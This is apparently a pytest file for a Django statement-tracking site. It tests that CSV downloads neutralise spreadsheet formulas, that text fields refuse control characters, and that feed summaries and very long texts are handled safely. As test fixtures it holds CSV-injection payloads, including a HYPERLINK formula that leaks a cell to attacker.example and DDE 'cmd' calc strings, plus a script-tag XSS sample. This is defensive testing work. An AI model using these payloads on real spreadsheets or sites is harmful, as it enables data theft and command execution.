"""
Hostile text that is valid for the form it is typed in, and hostile only where it is shown
again: formulas in CSV downloads, control characters in Atom feeds, markup in feed
summaries, and a full text too long for PostgreSQL's search vector.

(tests/test_hostile_input.py sweeps malformed input; this file follows the text that gets
in to every place it comes out.)
"""

import csv
import datetime
import io
import json
import re
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.urls import reverse

from organizations.models import Organization, OtherName
from statements.importing import ImportDataError, import_paths
from statements.models import (
    CoverageLink,
    MediaContact,
    Quote,
    Signature,
    Statement,
    Topic,
)
from tracker.text import FORMULA_TRIGGERS, CheckedText, spreadsheet_cell

from . import factories
from .admin_forms import form_data

ATOM = "{http://www.w3.org/2005/Atom}"


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def form_errors(response) -> dict[str, list[str]]:
    """The errors of an admin change form and of its inline rows, by field."""
    forms = [response.context["adminform"].form]
    for inline in response.context["inline_admin_formsets"]:
        forms.extend(inline.formset.forms)
    errors = {}
    for form in forms:
        for name, messages in form.errors.items():
            errors.setdefault(name, []).extend(messages)
    return errors


# --- Formulas in CSV downloads ---------------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")'
FORMULAS = {
    "statement title": HYPERLINK,
    "place": "\t@SUM(1+1)*cmd|' /C calc'!A0",
    "ask": "+1+2 we urge",
    "topic name": "-2+3 topic",
    "organisation name": "=cmd|' /C calc'!A0",
    "acronym": "@ORG",
    "co-signer name": "+Plus Org",
    "name as printed": "=1+1 as printed",
    "withdrawal reason": "\r=2+2 withdrew",
}


@pytest.fixture
def formulas(db):
    """A public statement whose every text a CSV shows begins with a formula trigger."""
    topic = factories.topic(name=FORMULAS["topic name"], slug="formula-topic")
    signer = factories.organization(
        name=FORMULAS["organisation name"], slug="formula-org", acronym=FORMULAS["acronym"]
    )
    cosigner = factories.organization(name=FORMULAS["co-signer name"], slug="plus-org")
    statement = factories.statement(
        slug="formula-statement",
        title=FORMULAS["statement title"],
        place=FORMULAS["place"],
        ask=FORMULAS["ask"],
    )
    statement.topics.add(topic)
    factories.signature(
        statement=statement, organization=signer, role="lead", position=1,
        name_as_printed=FORMULAS["name as printed"],
    )  # fmt: skip
    factories.signature(
        statement=statement, organization=cosigner, position=2,
        withdrawn_on=statement.issued_on, withdrawal_reason=FORMULAS["withdrawal reason"],
    )  # fmt: skip
    call_command("rebuild_derived", verbosity=0)
    return statement


class _CsvLinks(HTMLParser):
    def __init__(self):
        super().__init__()
        self.links = []

    def handle_starttag(self, tag, attrs):
        href = dict(attrs).get("href") or ""
        if tag == "a" and "format=csv" in href:
            self.links.append(href)


def page_csv_links(client, *pages) -> set[str]:
    links = set()
    for page in pages:
        response = client.get(page)
        assert response.status_code == 200, page
        reader = _CsvLinks()
        reader.feed(response.content.decode())
        links.update(reader.links)
    return links


# How to fill each path parameter of a CSV address: a record the fixture made.
PATH_VALUES = {"organizations": "formula-org", "statements": "formula-statement"}


def schema_csv_addresses(client) -> set[str]:
    """Every address the API schema says answers with CSV, with its path filled in."""
    schema = json.loads(client.get("/api/v1/schema/", {"format": "json"}).content)
    addresses = set()
    for path, operations in schema["paths"].items():
        content = operations.get("get", {}).get("responses", {}).get("200", {}).get("content")
        if not content or "text/csv" not in content:
            continue
        collection = path.strip("/").split("/")[2]  # api, v1, <collection>
        filled = re.sub(r"\{[^}]+\}", PATH_VALUES.get(collection, "{unknown}"), path)
        assert "{unknown}" not in filled, f"{path}: give PATH_VALUES a record for it"
        addresses.add(f"{filled}?format=csv")
    return addresses


def test_every_csv_download_gives_formulas_as_text(formulas, client):
    addresses = schema_csv_addresses(client)
    linked = page_csv_links(
        client,
        "/",
        "/statements/",
        "/statements/formula-statement/",
        "/organizations/",
        "/organizations/formula-org/",
        "/topics/",
        "/topics/formula-topic/",
    )
    assert len(linked) >= 2, linked  # a statement's signatories, an organisation's timeline
    # The pages link CSV downloads the schema lists too (the same endpoints, filtered).
    assert {urlsplit(link).path for link in linked} <= {urlsplit(a).path for a in addresses}
    # The ones there are now (a new one is swept with them).
    assert {
        "/api/v1/statements/?format=csv",
        "/api/v1/organizations/?format=csv",
        "/api/v1/organizations/formula-org/timeline/?format=csv",
        "/api/v1/organizations/formula-org/cosigners/?format=csv",
        "/api/v1/signatures/?format=csv",
        "/api/v1/topics/?format=csv",
    } <= addresses, sorted(addresses)
    neutralised_anywhere = set()
    for address in sorted(addresses | linked):
        rows = csv_rows(client.get(address))
        cells = [cell for row in rows for cell in row]
        live = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
        assert live == [], f"{address}: cells a spreadsheet would run: {live}"
        neutralised = {cell[1:] for cell in cells if cell[:1] == "'"}
        assert neutralised, f"{address}: shows none of the formulas, so proves nothing"
        neutralised_anywhere |= neutralised
    assert {n: v for n, v in FORMULAS.items() if v not in neutralised_anywhere} == {}


def test_a_neutralised_cell_is_the_text_with_a_leading_quote_and_json_keeps_it_as_typed(
    formulas, client
):
    header, *rows = csv_rows(client.get("/api/v1/statements/", {"format": "csv"}))
    row = dict(zip(header, rows[0], strict=True))
    assert (row["title"], row["place"], row["ask"]) == (
        "'" + FORMULAS["statement title"],
        "'" + FORMULAS["place"],
        "'" + FORMULAS["ask"],
    )
    # Numbers are numbers, and a text that starts with anything else is left alone.
    assert (row["lead_count"], row["signatory_count"], row["issued_on"]) == ("1", "1", "2025-11-12")
    assert row["slug"] == "formula-statement"
    detail = client.get("/api/v1/statements/formula-statement/").json()
    assert (detail["title"], detail["place"]) == (FORMULAS["statement title"], FORMULAS["place"])


def test_every_text_cell_is_quoted_so_no_separator_can_open_a_cell(formulas, client):
    Statement.objects.filter(slug="formula-statement").update(place="Geneva;=1+1\t@A1")
    response = client.get("/api/v1/statements/", {"format": "csv"})
    header, row = b"".join(response.streaming_content).decode().splitlines()
    assert header.startswith('"slug","title",')
    assert '"Geneva;=1+1\t@A1"' in row
    assert row.endswith(',1,1,"http://testserver/api/v1/statements/formula-statement/"')


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-5", "'-5"), ("@x", "'@x"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
        ("1-1", "1-1"), ("a=b", "a=b"), (" =1", " =1"), ("", ""), ("'=1", "'=1"),
        (-5, -5), (3, 3), (None, None), (True, True),
    ],
)  # fmt: skip
def test_only_text_that_a_spreadsheet_would_run_is_prefixed(value, cell):
    assert spreadsheet_cell(value) == cell


@pytest.fixture
def letter(db):
    return factories.statement(
        slug="a-new-letter", issued_on=datetime.date(2026, 1, 15), status=Statement.Status.DRAFT
    )


def preview_errors(staff_client, statement, **data) -> str:
    url = reverse("admin:statements_statement_signatories", args=[statement.pk])
    response = staff_client.post(url, {"_preview": "1", "role": "signatory", **data})
    assert response.status_code == 200
    assert 'name="_confirm"' not in response.content.decode()
    form = response.context["form"]
    return " ".join([*form.non_field_errors(), *(e for es in form.errors.values() for e in es)])


def test_a_pasted_formula_or_mention_is_a_line_error_not_a_new_organisation(staff_client, letter):
    organisations = Organization.objects.count()
    said = preview_errors(
        staff_client,
        letter,
        text=f"Democracy for the Arab World Now\n{HYPERLINK}\n• @everyone\nGood Group (@GRP)\n",
    )
    assert "Line 2: the name “=HYPERLINK(" in said
    assert "Line 3: the name “@everyone” begins with “@”" in said
    assert "Line 4: the acronym “@GRP” begins with “@”" in said
    assert "Line 1" not in said
    said = preview_errors(
        staff_client,
        letter,
        csv_file=SimpleUploadedFile(
            "list.csv", b'name,acronym\nGood Org,\n"=SUM(1,2)",\n', content_type="text/csv"
        ),
    )
    assert "Line 3: the name “=SUM(1,2)” begins with “=”" in said
    assert Organization.objects.count() == organisations
    assert not letter.signatures.exists()


def test_a_control_character_in_a_pasted_list_is_a_line_error_at_preview(staff_client, letter):
    said = preview_errors(staff_client, letter, text="Good Org\nBell\x07 Org\n")
    assert "Line 2: the name contains an invisible control character (U+0007)" in said
    upload = b"name,withdrawn_on,withdrawal_reason\nGood Org,2026-02-01,Left\x0bfor good\n"
    upload += b"Other Org,2026-02-01,Rang\x07\n"
    said = preview_errors(
        staff_client,
        letter,
        csv_file=SimpleUploadedFile("list.csv", upload, content_type="text/csv"),
    )
    assert "Line 3: the withdrawal_reason contains an invisible control character" in said
    assert "Line 2" not in said  # Word's line break is a line break
    assert not letter.signatures.exists()


def test_plus_and_minus_still_start_a_pasted_line_as_bullets(staff_client, letter):
    url = reverse("admin:statements_statement_signatories", args=[letter.pk])
    response = staff_client.post(
        url, {"_preview": "1", "role": "signatory", "text": "- First Org\n+ Second Org\n"}
    )
    assert 'name="_confirm"' in response.content.decode()


# --- Control characters ----------------------------------------------------------------------

# Every model staff or an import fill with text (the others hold slugs or derived data).
TEXT_MODELS = [Topic, Statement, Signature, MediaContact, CoverageLink, Quote, Organization,
               OtherName]  # fmt: skip


def text_fields(model) -> list[str]:
    return [
        f.name
        for f in model._meta.concrete_fields
        if f.get_internal_type() in ("CharField", "TextField") and not f.choices
    ]


def test_every_text_field_of_every_model_refuses_a_control_character():
    problems = []
    for model in TEXT_MODELS:
        assert issubclass(model, CheckedText), model
        for name in text_fields(model):
            record = model(**{name: "Bell \x07 here"})
            others = [f.name for f in model._meta.fields if f.name != name]
            try:
                record.clean_fields(exclude=others)
            except ValidationError as exc:
                said = exc.message_dict.get(name, [])
                if not any("U+0007" in message for message in said):
                    problems.append(f"{model.__name__}.{name}: {said}")
            else:
                problems.append(f"{model.__name__}.{name}: accepted")
    assert problems == []


def test_the_models_with_text_are_all_checked():
    from django.apps import apps

    unchecked = [
        model.__name__
        for app in ("statements", "organizations")
        for model in apps.get_app_config(app).get_models()
        if not model.__name__.startswith("Historical")
        and text_fields(model)
        and not issubclass(model, CheckedText)
        # FormerSlug: a slug only, its validator refuses these; ImportedRecord: the importer's
        # own bookkeeping of what it wrote, never typed by anyone; Change: the change log,
        # written by the database from rows already checked.
        and model.__name__ not in ("FormerSlug", "ImportedRecord", "Change")
    ]
    assert unchecked == []


def test_a_word_line_break_becomes_a_line_break_and_a_bell_is_a_form_error(seeded, staff_client):
    url = reverse("admin:statements_statement_add")
    data = form_data(staff_client.get(url).content.decode())
    data.update(
        title="Joint\x0bstatement", slug="pasted-from-word", issued_on="2030-01-01",
        status="published", ask="We urge:\x0bfirst,\x0csecond.", summary="Bell\x07here",
    )  # fmt: skip
    response = staff_client.post(url, data)
    assert response.status_code == 200
    errors = form_errors(response)
    assert list(errors) == ["summary"], errors
    assert "control character (U+0007)" in errors["summary"][0]
    assert not Statement.objects.filter(slug="pasted-from-word").exists()

    data["summary"] = "A summary."
    assert staff_client.post(url, data).status_code == 302
    saved = Statement.objects.get(slug="pasted-from-word")
    assert (saved.title, saved.ask) == ("Joint statement", "We urge:\nfirst,\nsecond.")


def test_the_importer_refuses_a_control_character_naming_the_field(seeded, tmp_path):
    record = {
        "slug": "imported-bell",
        "title": "Imported",
        "issued_on": "2030-01-01",
        "status": "published",
        "ask": "Line\u000bbreak",
        "quotes": [{"speaker": "Someone", "text": "Ring\u0007ring"}],
    }
    path = tmp_path / "bell.json"
    path.write_text(json.dumps({"statements": [record]}))
    with pytest.raises(ImportDataError, match=r"quotes\[0\]: text: Contains an invisible control"):
        import_paths([path])
    assert not Statement.objects.filter(slug="imported-bell").exists()

    record["quotes"][0]["text"] = "Ring ring"
    path.write_text(json.dumps({"statements": [record]}))
    import_paths([path])
    assert Statement.objects.get(slug="imported-bell").ask == "Line\nbreak"


def parsed_feed(client, address) -> ET.Element:
    response = client.get(address)
    assert response.status_code == 200, address
    return ET.fromstring(response.content)


FEEDS = ["/feeds/statements/", "/organizations/dawn/feed/", "/topics/gaza/feed/"]
JOINT = "2025-11-12-azerbaijan-isf-gaza-joint-statement"


def entry_for(root: ET.Element, slug: str) -> ET.Element:
    return next(
        e for e in root.iter(f"{ATOM}entry") if f"/{slug}/" in e.find(f"{ATOM}link").get("href")
    )


def test_a_control_character_written_around_validation_never_breaks_a_feed(seeded, client):
    # QuerySet.update writes without validating, as plain SQL would.
    Statement.objects.filter(slug=JOINT).update(
        title="Joint\x0bstatement\x07", ask="We urge\x0c\x1b the \ufffe end"
    )
    Organization.objects.filter(slug="dawn").update(name="DAWN\x08")
    Topic.objects.filter(slug="gaza").update(name="Gaza\x01")
    for feed in FEEDS:
        entry = entry_for(parsed_feed(client, feed), JOINT)
        assert entry.findtext(f"{ATOM}title") == "Joint\nstatement"
        assert entry.findtext(f"{ATOM}summary") == "We urge\n the  end"
    assert parsed_feed(client, FEEDS[1]).findtext(f"{ATOM}title") == "Statements signed by DAWN"
    assert parsed_feed(client, FEEDS[2]).findtext(f"{ATOM}title") == "Statements on Gaza"


# --- Feed summaries are text -----------------------------------------------------------------


def test_feed_summaries_are_text_so_markup_typed_by_staff_is_shown_not_run(seeded, client):
    ask = "We urge <script>alert(1)</script> & <b>now</b>"
    Statement.objects.filter(slug=JOINT).update(ask=ask)
    for feed in FEEDS:
        root = parsed_feed(client, feed)
        types = {e.find(f"{ATOM}summary").get("type") for e in root.iter(f"{ATOM}entry")}
        assert types == {"text"}, feed
        assert entry_for(root, JOINT).findtext(f"{ATOM}summary") == ask


# --- A full text too long for the search vector ----------------------------------------------


def distinct_words(count: int) -> str:
    """`count` distinct made-up words of letters (no stemming merges them), space separated."""
    letters = "bcdfghjklmnpqrstvwxz"

    def word(n):
        out = ""
        for _ in range(5):
            n, digit = divmod(n, len(letters))
            out += letters[digit] + "a"
        return "q" + out

    return " ".join(word(n) for n in range(count))


HUGE = distinct_words(160_000)  # 1.9 MB, as a long report pasted whole


def test_a_huge_full_text_saves_through_the_admin_and_its_start_is_searchable(
    seeded, staff_client, client
):
    assert len(HUGE) > 1_600_000
    url = reverse("admin:statements_statement_add")
    data = form_data(staff_client.get(url).content.decode())
    data.update(
        title="A very long report", slug="very-long-report", issued_on="2030-01-01",
        status="published", full_text=HUGE,
    )  # fmt: skip
    response = staff_client.post(url, data)
    assert response.status_code == 302, response.status_code
    saved = Statement.objects.get(slug="very-long-report")
    assert saved.full_text == HUGE
    first = HUGE.split(" ", 1)[0]
    found = client.get("/search/", {"q": first})
    assert found.status_code == 200
    assert "/statements/very-long-report/" in found.content.decode()


def test_a_huge_full_text_imports_without_a_traceback(seeded, tmp_path):
    path = tmp_path / "long.json"
    record = {"slug": "long-import", "title": "Long", "issued_on": "2030-01-01",
              "status": "published", "full_text": HUGE}  # fmt: skip
    path.write_text(json.dumps({"statements": [record]}))
    out = io.StringIO()
    call_command("import_statements", str(path), stdout=out)
    assert Statement.objects.get(slug="long-import").full_text == HUGE


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL's tsvector limit")
def test_the_indexed_prefix_fits_a_tsvector_whatever_its_characters(db):
    # The densest words there are: distinct 4-byte letters in hyphenated compounds, which
    # the parser indexes whole and by part.
    # Each compound and each of its parts is a word of its own: 49 bytes of lexemes for
    # every 8 characters of text.
    deseret = [chr(0x10400 + i) for i in range(40)]

    def part(n):
        return "".join(deseret[n // 40**i % 40] for i in range(3))

    def words(start, count):
        return " ".join(f"{part(2 * n)}-{part(2 * n + 1)}" for n in range(start, start + count))

    statement = factories.statement(
        title=words(30_000, 62), ask=words(25_000, 5_000), full_text=words(0, 25_000)
    )
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT length(search_vector) FROM statements_statement WHERE id = %s",
            [statement.pk],
        )
        assert cursor.fetchone()[0] > 10_000
